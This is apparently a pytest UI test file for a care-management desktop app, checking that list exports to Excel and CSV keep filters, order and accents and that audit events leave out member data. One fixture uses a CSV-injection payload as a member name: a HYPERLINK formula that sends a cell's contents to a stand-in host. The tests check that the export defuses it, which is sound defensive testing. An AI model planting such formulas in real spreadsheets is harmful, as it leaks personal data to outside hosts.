"""Export… in the window: every list leaves as it is shown (filters, order, visible columns) to .xlsx or CSV,
formula-safe, with accents intact, and each export is an audit event without member data.

The file dialog is answered by `answers.export_path` (tests/ui/conftest.py)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from PySide6.QtCore import Qt

from hhdesk.clock import AgencyClock
from hhdesk.db.store import Store
from hhdesk.domain.enums import TransitionSetting
from hhdesk.services import maintenance, members, transitions
from hhdesk.services.transitions import EpisodeInput
from hhdesk.ui.views.billing import BillingView
from hhdesk.ui.views.caseload import CaseloadView
from hhdesk.ui.views.directory import DirectoryView
from hhdesk.ui.views.quality import QualityView, default_period
from hhdesk.ui.views.referrals_section import ReferralsView
from hhdesk.ui.views.worklist import WorklistView
from tests.factories import MemberSpec, add_members
from tests.services.care_helpers import add_directory_entry, add_referral
from tests.ui.conftest import ADMIN, ADMIN_PASSWORD, UiStore

HOSTILE = MemberSpec('=HYPERLINK("http://example.invalid/?d="&A1,"Open")', "Zoë", "ZZ99999Z", date(1980, 2, 3),
                     "", "", "cm2", "enrolled", "standard")


@pytest.fixture
def store_with_hostile_name(ui_store_with_members: UiStore) -> UiStore:
    store = Store.open(ui_store_with_members.path, ADMIN, ADMIN_PASSWORD)
    try:
        add_members(store, [HOSTILE])
    finally:
        store.close()
    return ui_store_with_members


def export_events(app: Any) -> list[Any]:
    return [row for row in maintenance.audit_log(app, limit=50) if row.action == "export_list"]


def visible_headers(view: Any) -> list[str]:
    model, header = view.model(), view.horizontalHeader()
    return [str(model.headerData(header.logicalIndex(v), Qt.Orientation.Horizontal))
            for v in range(header.count()) if not view.isColumnHidden(header.logicalIndex(v))]


def test_caseload_exports_every_matching_member_to_xlsx(store_with_hostile_name: UiStore, login_as: Any,
                                                        main_window: Any, answers: Any, tmp_path: Path) -> None:
    app = login_as(ADMIN)
    window = main_window(app)
    view = window.show_section("caseload")
    assert isinstance(view, CaseloadView)
    view.status.setCurrentIndex(view.status.findText("Enrolled"))
    shown = [view.model.index(row, 0).data() for row in range(view.model.rowCount())]
    assert len(shown) == 3

    answers.export_path = tmp_path / "caseload.xlsx"
    view.export_button.click()
    assert window.statusBar().currentMessage() == "Exported 3 rows to caseload.xlsx"
    book = openpyxl.load_workbook(answers.export_path)
    sheet = book["Caseload"]
    assert [c.value for c in sheet[1]] == ["Name", "Medicaid ID", "Date of birth", "Age", "Status", "Tier",
                                           "Care manager", "Phone"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == shown  # the list's order, its display text
    assert "Núñez, José (Pepe)" in shown  # accents intact
    hostile = next(r for r in rows if r[1].value == "ZZ99999Z")
    assert hostile[0].value.startswith("=HYPERLINK(") and hostile[0].data_type == "s" and hostile[0].quotePrefix
    assert all(isinstance(r[3].value, int) for r in rows)  # ages are numbers, to sort and sum
    about = dict(book["About this export"].iter_rows(values_only=True))
    assert about["Status"] == "Enrolled" and about["Rows"] == "3" and about["Exported by"] == ADMIN

    event = export_events(app)[0]
    assert event.entity_id == "caseload" and "caseload as xlsx; 3 rows; Status: Enrolled" in event.detail
    assert "Núñez" not in event.detail and "HYPERLINK" not in event.detail and "caseload.xlsx" not in event.detail


def test_caseload_csv_has_a_bom_and_defuses_formulas_and_a_search_stays_out_of_the_audit_log(
        qtbot: Any, store_with_hostile_name: UiStore, login_as: Any, main_window: Any, answers: Any,
        tmp_path: Path) -> None:
    app = login_as(ADMIN)
    view = main_window(app).show_section("caseload")
    view.search.setText("zoë")
    view.apply_filters()
    assert view.model.rowCount() == 1
    answers.export_path = tmp_path / "found.csv"
    view.export_button.click()
    data = answers.export_path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfName,Medicaid ID,")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1][0].startswith("'=HYPERLINK(") and rows[1][0].endswith(", Zoë")
    detail = export_events(app)[0].detail
    assert "Search: (typed text, not recorded)" in detail and "zoë" not in detail.lower()


def test_cancelling_the_file_dialog_writes_nothing(ui_store_with_members: UiStore, login_as: Any,
                                                   main_window: Any, answers: Any) -> None:
    app = login_as(ADMIN)
    view = main_window(app).show_section("caseload")
    answers.export_path = None
    view.export_button.click()
    assert export_events(app) == []


def test_a_file_that_cannot_be_written_is_said_and_not_recorded(ui_store_with_members: UiStore, login_as: Any,
                                                                main_window: Any, answers: Any,
                                                                tmp_path: Path) -> None:
    app = login_as(ADMIN)
    view = main_window(app).show_section("directory")
    answers.export_path = tmp_path / "no such folder" / "directory.xlsx"
    view.export_button.click()
    assert answers.informed and "There is no folder" in answers.informed[-1]
    assert export_events(app) == []


def _worklist(window: Any) -> tuple[Any, Any]:
    view = window.show_section("worklist")
    assert isinstance(view, WorklistView)
    view.whose.setCurrentIndex(view.whose.count() - 1)  # everyone's
    return view, view.table


def _referrals(window: Any) -> tuple[Any, Any]:
    view = window.show_section("referrals")
    assert isinstance(view, ReferralsView)
    return view, view.table


def _quality(window: Any) -> tuple[Any, Any]:
    view = window.show_section("quality")
    assert isinstance(view, QualityView)
    return view, view.readmission_table


def _directory(window: Any) -> tuple[Any, Any]:
    view = window.show_section("directory")
    assert isinstance(view, DirectoryView)
    return view, view.table


def _billing(window: Any) -> tuple[Any, Any]:
    view = window.show_section("billing")
    assert isinstance(view, BillingView)
    view.not_billable_only.setChecked(True)  # a filter the export must keep
    return view, view.table


def _audit(window: Any) -> tuple[Any, Any]:
    admin = window.show_section("admin")
    tab = admin.tab("Audit log")
    tab.refresh()
    return tab, tab.table


@pytest.mark.parametrize(("opener", "kind", "button"), [
    (_worklist, "worklist", "export_button"),
    (_referrals, "referrals", "export_button"),
    (_quality, "quality", "export_button"),
    (_directory, "directory", "export_button"),
    (_billing, "billing_preview", "export_list_button"),
    (_audit, "audit_log", "export_button"),
])
def test_every_list_exports_what_it_shows(ui_store_with_members: UiStore, login_as: Any, main_window: Any,
                                          answers: Any, tmp_path: Path, opener: Any, kind: str,
                                          button: str) -> None:
    app = login_as(ADMIN)
    member = members.find_by_medicaid_id(app, "AB12345C")
    assert member is not None
    entry = add_directory_entry(app, "Banco de Alimentos Niño", "food")
    add_referral(app, member, entry, AgencyClock().today())
    start, _end = default_period(AgencyClock().today())
    admitted = datetime.combine(start, time(9))
    episode = transitions.open_episode(app, member, EpisodeInput(TransitionSetting.INPATIENT_MEDICAL, start, admitted,
                                                                 facility_name="St. Mary's"), now=admitted)
    transitions.record_discharge(app, episode.episode_id, admitted + timedelta(days=3),
                                 now=admitted + timedelta(days=3))
    view, table = opener(main_window(app))
    headers = visible_headers(table)
    shown_rows = table.model().rowCount()
    assert shown_rows > 0
    answers.export_path = tmp_path / f"{kind}.xlsx"
    getattr(view, button).click()
    assert answers.export_path.exists(), answers.informed
    book = openpyxl.load_workbook(answers.export_path)
    sheet = next(book[name] for name in book.sheetnames
                 if [c.value for c in book[name][1]] == headers)  # the list as shown is one of the sheets
    assert sheet.max_row - 1 == shown_rows
    event = export_events(app)[0]
    assert event.entity_id == kind and f"{shown_rows} rows" in event.detail or kind == "quality"


def test_supervisors_see_counts_per_care_manager_and_export_them(
        store_with_hostile_name: UiStore, login_as: Any, main_window: Any, answers: Any, tmp_path: Path) -> None:
    app = login_as(ADMIN)
    view = main_window(app).show_section("caseload")
    panel = view.counts_panel
    assert panel is not None and panel.isVisibleTo(view)
    names = [panel.table.item(row, 0).text() for row in range(panel.table.rowCount())]
    assert names == ["Carla Martinez", "Marcus Hall", "Unassigned", "All care managers"]
    headers = [panel.table.horizontalHeaderItem(c).text() for c in range(panel.table.columnCount())]
    assert headers[:6] == ["Care manager", "Members", "Enrolled", "Outreach", "Disenrolled", "Referred"]
    assert headers[-2:] == ["Contacts\nthis month", "No qualifying\ncontact yet"]
    marcus = [panel.table.item(1, c).text() for c in range(panel.table.columnCount())]
    assert marcus[1:3] == ["3", "2"]  # Washington, Smith-Jones and the hostile name; two enrolled

    panel.table.itemActivated.emit(panel.table.item(1, 0))  # a double-click lists Marcus's members
    assert view.care_manager.currentData() == "cm2"

    answers.export_path = tmp_path / "caseloads.xlsx"
    panel.export_button.click()
    sheet = openpyxl.load_workbook(answers.export_path).worksheets[0]
    assert [c.value for c in sheet[1]] == [" ".join(h.split()) for h in headers]
    assert sheet.cell(row=3, column=2).value == 3  # a number, not text
    assert export_events(app)[0].entity_id == "care_manager_counts"


def test_care_managers_do_not_get_the_counts(ui_store_with_members: UiStore, login_as: Any,
                                             main_window: Any) -> None:
    view = main_window(login_as("cm1")).show_section("caseload")
    assert view.counts_panel is None and view.export_button.isVisibleTo(view)


def test_figures_go_out_as_numbers_and_identifiers_as_text(qtbot: Any) -> None:
    from decimal import Decimal

    from PySide6.QtGui import QStandardItem, QStandardItemModel

    from hhdesk.ui.list_export import table_from_model

    model = QStandardItemModel()
    model.setHorizontalHeaderLabels(["Zip", "NPI", "Count", "Amount", "Age", "Name"])
    for values in (["01234", "1234567893", "12", "$1,234.50", "7", "-2+3"], ["12207", "", "0", "$0.00", "42", "Ann"]):
        items = [QStandardItem(v) for v in values]
        items[4].setTextAlignment(Qt.AlignmentFlag.AlignRight | Qt.AlignmentFlag.AlignVCenter)
        model.appendRow(items)
    table = table_from_model(model, "T")
    assert table.rows[0] == ["01234", "1234567893", 12, Decimal("1234.50"), 7, "-2+3"]
    assert table.rows[1][:5] == ["12207", "", 0, Decimal("0.00"), 42]
    assert table.money == frozenset({"Amount"})
